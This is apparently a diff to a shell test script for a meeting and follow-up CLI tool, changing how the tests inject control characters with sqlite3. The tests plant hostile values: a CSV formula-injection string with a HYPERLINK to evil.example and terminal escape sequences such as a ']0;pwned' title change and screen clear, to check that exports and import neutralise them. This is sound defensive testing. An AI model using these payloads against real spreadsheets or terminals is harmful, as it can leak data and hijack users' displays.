@@ -64,8 +64,8 @@ must tl followup add --text "Vanlig text, med komma" --owner "$PERSON" -q
 # break, so another program puts them there.
 must tl followup add --text "tab" --owner "$PERSON" -q
 TABF=$(last_id)
-dbsql "UPDATE followups SET text = $CHR(9) || '=1+1' \
-	WHERE id = '$TABF';" || echo "not ok - setup: SQL UPDATE"
+dbsql "UPDATE followups SET text = char(9) || '=1+1' \
+	WHERE id = '$TABF';" || echo "not ok - setup: sqlite3 UPDATE"
 
 GUARDED='"'"'"'=HYPERLINK(""http://evil.example/?x"",""klicka"")"'
 for how in "followup list --format csv" "export followups --format csv" \
@@ -210,9 +210,9 @@ fi
 
 # ---- controls stored by another program ------------------------------------
 
-# tillit refuses controls in new text, so put them in with SQL.
-BAD="$CHR(27) || ']0;pwned' || $CHR(7) || $CHR(27) || '[2J' || $CHR(1) \
-	|| $CHR(8) || $CHR(13) || $CHR(127) || $CHR(155) || '[31m'"
+# tillit refuses controls in new text, so put them in with sqlite3.
+BAD="char(27) || ']0;pwned' || char(7) || char(27) || '[2J' || char(1) \
+	|| char(8) || char(13) || char(127) || char(155) || '[31m'"
 # What the screen shows for it.
 SHOWN='^[]0;pwned^G^[[2J^A^H^M^??[31m'
 must tl followup add --text "Kontroll" --owner "$PERSON" --due 2026-12-01 \
@@ -226,7 +226,7 @@ UPDATE meetings SET title = 'M ' || $BAD, location = 'L ' || $BAD
 UPDATE items SET title = 'I ' || $BAD, notes = 'N ' || $BAD,
 	decision = 'D ' || $BAD WHERE meeting = '$HOSTILE';
 UPDATE mandates SET matter = 'X ' || $BAD WHERE meeting = '$HOSTILE';" ||
-	echo "not ok - setup: SQL UPDATE"
+	echo "not ok - setup: sqlite3 UPDATE"
 
 for cmd in "followup list --format csv" "export followups --format csv" \
 	"followup list --format csv --csv-raw" \
@@ -314,7 +314,7 @@ else
 fi
 # Import reads the escapes as the controls they stand for, and refuses
 # them with the sentence it gives for raw ones.
-CTLDB=$(newdb ctl-import) || exit 1
+CTLDB=$(newdb ctl_import) || exit 1
 run "$TILLIT" --db "$CTLDB" import "$W/ctl.json"
 check_err "import reads an escaped control as the control" 1 \
 	'must not contain a control character'
@@ -424,7 +424,7 @@ else
 	# A long text of two-byte characters, so that lines are folded.
 	LONG=$(printf 'å%.0s' $(seq 120))
 	dbsql "UPDATE followups SET outcome = 'O ' || $BAD || \
-		'$LONG' || $CHR(10) || 'rad 2; med, tecken\\' \
+		'$LONG' || char(10) || 'rad 2; med, tecken\\' \
 		WHERE id = '$CTL';"
 	run tl export followups --format ics
 	cp "$W/out" "$W/out.ics"
